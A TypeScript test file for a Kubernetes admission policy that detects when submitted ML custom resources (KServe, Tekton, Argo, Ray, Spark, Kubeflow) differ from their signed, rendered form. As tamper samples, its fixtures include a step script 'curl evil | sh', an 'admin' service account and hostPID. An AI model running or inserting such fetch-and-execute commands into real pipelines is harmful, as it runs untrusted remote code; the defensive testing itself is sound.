import t from 'tap'
import type { JsonObject } from '../../../common/json.ts'
import { judge } from '../judged.ts'
import { exchanged, signed } from '../signed.ts'

const metadata = { name: 'x', namespace: 'ml', labels: { team: 'ml' } }

/** What a policy that binds what runs says of a custom resource whose spec is another than was rendered. */
function refused(
  [apiVersion, kind]: readonly [string, string],
  spec: JsonObject,
  other: JsonObject,
  options: JsonObject = {}
): string[] {
  const object = signed({ apiVersion, kind, metadata, spec })
  return judge({ provenance: options }, exchanged(object, other)).map(line =>
    line.slice(0, line.indexOf(';'))
  )
}

const isvc = ['serving.kserve.io/v1beta1', 'InferenceService'] as const
const task = ['tekton.dev/v1', 'Task'] as const
const taskRun = ['tekton.dev/v1', 'TaskRun'] as const
const workflow = ['argoproj.io/v1alpha1', 'Workflow'] as const
const ray = ['ray.io/v1', 'RayCluster'] as const
const jobSet = ['jobset.x-k8s.io/v1alpha2', 'JobSet'] as const
const spark = ['sparkoperator.k8s.io/v1beta2', 'SparkApplication'] as const
const pipeline = ['pipelines.kubeflow.org/v2beta1', 'PipelineVersion'] as const

type Case = readonly [readonly [string, string], JsonObject, JsonObject, ...string[]]

const image = 'registry.example.com/ml/trainer:1'
const model = { modelFormat: { name: 'sklearn' }, storageUri: 's3://m/a' }
const predictor = (more: JsonObject, pod: JsonObject = {}) => ({
  predictor: { model: { ...model, ...more }, ...pod }
})
const triton = { modelFormat: { name: 'triton' } }
const steps = (...scripts: readonly string[]) => ({
  steps: scripts.map((script, at) => ({ name: `s${at}`, image, script }))
})
const templates = (...all: readonly JsonObject[]) => ({ entrypoint: 'a', templates: all })
const a = { name: 'a', container: { image, args: ['x'] } }
const b = { name: 'b', container: { image, args: ['y'] } }
const worker = (pod: JsonObject, more: JsonObject = {}) => ({
  workerGroupSpecs: [
    {
      groupName: 'g',
      replicas: 1,
      template: { spec: { containers: [{ name: 'w', image }], ...pod } },
      ...more
    }
  ]
})
const executors = (all: JsonObject) => ({ pipelineSpec: { deploymentSpec: { executors: all } } })
const train = { container: { image, args: ['x'] } }

t.test('what decides what a custom resource runs is bound, known or not', t => {
  const cases: readonly Case[] = [
    [
      isvc,
      predictor({}),
      predictor({ args: ['--model_id=evil/hf'] }),
      'spec.predictor.model.args: this field was not rendered'
    ],
    [
      isvc,
      predictor({}),
      predictor({}, { serviceAccountName: 'admin' }),
      'spec.predictor.serviceAccountName: this field was not rendered'
    ],
    [
      isvc,
      predictor({}),
      predictor({}, { fieldOfTheFuture: { runs: 'anything' } }),
      'spec.predictor.fieldOfTheFuture: this field was not rendered'
    ],
    [
      isvc,
      predictor({}, { transformer: {} }),
      predictor({}),
      'spec.predictor.transformer: this field was rendered and is missing'
    ],
    [
      task,
      steps('train', 'report'),
      steps('train', 'curl evil | sh'),
      'spec.steps[1].script: this field of container s1 is not as it was rendered'
    ],
    [
      task,
      steps('train', 'report'),
      { steps: [...steps('train', 'report').steps, { name: 's2', image, script: 'evil' }] },
      'spec.steps[2]: step s2 was not rendered'
    ],
    [
      workflow,
      templates(a, b),
      { ...templates(a, b), entrypoint: 'b' },
      'spec.entrypoint: this field is not as it was rendered'
    ],
    [
      workflow,
      { ...templates(a), arguments: { parameters: [{ name: 'seed', value: '7' }] } },
      { ...templates(a), arguments: { parameters: [{ name: 'seed', value: '8' }] } },
      'spec.arguments.parameters[0].value: this field is not as it was rendered'
    ],
    [
      ray,
      worker({}),
      worker({ hostPID: true }),
      'spec.workerGroupSpecs[0].template.spec.hostPID: this field was not rendered'
    ],
    [
      spark,
      { driver: { envVars: { SEED: '7' } } },
      { driver: { envVars: { SEED: '7', timeout: 'evil' } } },
      'spec.driver.envVars.timeout: this field was not rendered'
    ]
  ]
  for (const [kind, spec, other, ...messages] of cases) {
    t.same(refused(kind, spec, other), messages)
    t.same(refused(kind, spec, other, { binds: 'object' }), messages)
  }
  t.end()
})

t.test('a name that decides nothing hides nothing', t => {
  const cases: readonly Case[] = [
    // Keys of maps are chosen by whoever writes the object.
    [
      pipeline,
      executors({ train }),
      executors({ train, resources: train }),
      'spec.pipelineSpec.deploymentSpec.executors.resources: this field was not rendered'
    ],
    [
      pipeline,
      executors({ train }),
      executors({ train, labels: train }),
      'spec.pipelineSpec.deploymentSpec.executors.labels: this field was not rendered'
    ],
    [
      ray,
      worker({}),
      worker({ nodeSelector: { containers: [{ name: 'evil', image }] } }),
      'spec.workerGroupSpecs[0].template.spec.nodeSelector: this field was not rendered'
    ],
    [
      ray,
      worker({}),
      worker({}, { replicas: { image } }),
      'spec.workerGroupSpecs[0].replicas: this field is not as it was rendered'
    ],
    [
      ray,
      worker({}),
      worker({
        containers: [{ name: 'w', image, resources: { limits: {}, claims: [{ name: 'gpu' }] } }]
      }),
      'spec.workerGroupSpecs[0].template.spec.containers[0].resources: this field of container w was not rendered'
    ],
    [
      ray,
      worker({}),
      worker({ containers: [{ name: 'w', image, ports: [{ containerPort: 1, hostPort: 1 }] }] }),
      'spec.workerGroupSpecs[0].template.spec.containers[0].ports[0]: this field of container w was not rendered'
    ],
    [
      ray,
      worker({}),
      worker({ containers: [{ name: 'w', image, imagePullPolicy: 'Never' }] }),
      'spec.workerGroupSpecs[0].template.spec.containers[0].imagePullPolicy: this field of container w was not rendered'
    ],
    [
      ray,
      worker({}),
      worker({ initContainers: [{ name: 'w', image, restartPolicy: 'Always' }] }),
      'spec.workerGroupSpecs[0].template.spec.initContainers[0]: init container w was not rendered'
    ]
  ]
  for (const [kind, spec, other, ...messages] of cases) t.same(refused(kind, spec, other), messages)
  t.end()
})

t.test('how many, when and where, what operators set, and the order of named things is free', t => {
  const free: readonly Case[] = [
    [workflow, templates(a, b), templates(b, a)],
    [workflow, templates(a), { ...templates(a), suspend: true, shutdown: 'Stop' }],
    [ray, worker({}), worker({}, { replicas: 9, scaleStrategy: { workersToDelete: ['p'] } })],
    [ray, worker({}), worker({ nodeSelector: { gpu: 'a' }, tolerations: [{ key: 'gpu' }] })],
    [ray, worker({}), worker({ serviceAccountName: 'default' })],
    [isvc, predictor({}), predictor({ name: '', resources: { limits: { cpu: '1' } } })],
    [isvc, predictor({}), predictor({}, { minReplicas: 2 })],
    [isvc, predictor(triton), predictor({ ...triton, protocolVersion: 'v2' })],
    [isvc, { predictor: { sklearn: { storageUri: 's3://m/a' } } }, predictor({})],
    [
      taskRun,
      { taskRef: { name: 't' } },
      { taskRef: { name: 't', kind: 'Task' }, timeout: '1h0m0s' }
    ],
    [taskRun, { taskRef: { name: 't' } }, { taskRef: { name: 't' }, status: 'TaskRunCancelled' }],
    [
      jobSet,
      { replicatedJobs: [{ name: 'r', template: { spec: {} } }] },
      {
        replicatedJobs: [{ name: 'r', template: { spec: { completionMode: 'Indexed' } } }],
        network: { enableDNSHostnames: true, publishNotReadyAddresses: true },
        startupPolicy: { startupPolicyOrder: 'AnyOrder' },
        successPolicy: { operator: 'All' }
      }
    ]
  ]
  for (const [kind, spec, other] of free) t.same(refused(kind, spec, other), [])
  t.end()
})

t.test('binds object takes the scale sub-resource of the kinds that have one', t => {
  const scaled = (path: 'Worker' | 'Master') => {
    const spec = (replicas: number) => ({
      pytorchReplicaSpecs: {
        [path]: { replicas, template: { spec: { containers: [{ name: 'p', image }] } } }
      }
    })
    return refused(['kubeflow.org/v1', 'PyTorchJob'], spec(1), spec(2), { binds: 'object' })
  }
  t.same(scaled('Worker'), [])
  t.same(scaled('Master'), [
    'spec.pytorchReplicaSpecs.Master.replicas: this field is not as it was rendered'
  ])
  t.same(refused(ray, worker({}), worker({}, { replicas: 9 }), { binds: 'object' }), [
    'spec.workerGroupSpecs[0].replicas: this field is not as it was rendered'
  ])
  t.end()
})
